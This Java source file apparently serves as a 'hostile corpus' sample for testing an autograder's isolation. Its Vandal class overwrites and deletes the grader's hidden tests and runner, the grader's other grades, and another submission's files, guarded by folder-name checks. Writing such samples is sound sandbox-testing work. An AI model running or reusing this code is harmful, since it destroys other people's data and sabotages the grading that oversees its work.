package com.acme.ratelimit;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Hostile corpus: overwrites, then deletes, every file it can reach outside its working folder: the grade's
 * compiled hidden tests and runner (the parent folder, "grade-*"), the grader's other grades (the grandparent,
 * "grader-*"), and a folder the corpus test names in the system property hostile.other ("other-submission").
 * It only touches folders with exactly those names, so it cannot run wild on a machine laid out otherwise.
 */
final class Vandal {

  private Vandal() {}

  static void run() {
    Path here = Path.of(System.getProperty("user.dir")).toAbsolutePath().normalize();
    List<Path> roots = new ArrayList<>();
    Path grade = here.getParent();
    if (grade != null && grade.getFileName().toString().startsWith("grade-")) {
      roots.add(grade);
      Path grader = grade.getParent();
      if (grader != null && grader.getFileName().toString().startsWith("grader-")) {
        roots.add(grader);
      }
    }
    String other = System.getProperty("hostile.other");
    if (other != null && Path.of(other).getFileName().toString().equals("other-submission")) {
      roots.add(Path.of(other));
    }
    for (Path root : roots) {
      List<Path> files = new ArrayList<>();
      try (Stream<Path> walk = Files.walk(root, 12)) {
        walk.filter(p -> !p.startsWith(here) && Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS)).forEach(files::add);
      } catch (IOException | UncheckedIOException e) {
        // take what was found
      }
      for (Path f : files) {
        try {
          Files.write(f, "hostile\n".getBytes(StandardCharsets.UTF_8));
        } catch (IOException | RuntimeException e) {
          // read-only: go on
        }
      }
      for (Path f : files) {
        try {
          Files.delete(f);
        } catch (IOException | RuntimeException e) {
          // read-only: go on
        }
      }
      try {
        Files.writeString(root.resolve("HOSTILE-WAS-HERE"), "hostile\n");
      } catch (IOException | RuntimeException e) {
        // read-only
      }
    }
  }
}
